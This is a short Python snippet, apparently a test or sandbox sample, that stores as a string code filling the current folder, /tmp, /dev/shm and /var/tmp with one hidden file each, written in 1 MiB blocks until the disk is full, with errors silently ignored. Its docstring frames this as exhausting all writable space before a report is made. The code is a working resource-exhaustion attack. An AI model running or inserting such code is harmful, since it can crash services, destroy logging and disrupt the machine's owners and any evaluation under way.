"""All that can be written to is full before a report is: workspace, temporary folders, shared memory."""

CODE = r"""
import os

for _folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(_folder + "/.full", "wb", buffering=0) as _file:
            while _file.write(b"x" * (1 << 20)):
                pass
    except OSError:
        pass
"""
